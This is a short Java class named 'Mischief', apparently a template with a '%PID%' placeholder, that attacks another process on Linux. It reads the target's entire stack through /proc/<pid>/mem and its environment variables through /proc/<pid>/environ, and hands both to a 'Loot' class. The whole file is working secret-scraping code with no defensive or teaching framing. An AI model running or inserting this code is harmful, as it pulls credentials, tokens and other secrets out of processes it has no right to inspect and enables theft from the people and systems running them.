package chatlabs.echo;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/** Reads another process by /proc, which asks for the same rights as ptrace. */
final class Mischief {
  static void begin() throws Exception {
    Path process = Path.of("/proc", "%PID%");
    try (var memory = new RandomAccessFile(process.resolve("mem").toFile(), "r")) {
      for (String line : Files.readAllLines(process.resolve("maps"))) {
        if (line.endsWith("[stack]")) {
          String[] ends = line.split(" ")[0].split("-");
          long begin = Long.parseUnsignedLong(ends[0], 16);
          byte[] stack = new byte[(int) (Long.parseUnsignedLong(ends[1], 16) - begin)];
          memory.seek(begin);
          memory.readFully(stack);
          Loot.look(new String(stack, StandardCharsets.ISO_8859_1));
        }
      }
    } catch (IOException held) {
      System.out.println(held);
    }
    Loot.read(process.resolve("environ"));
  }
}
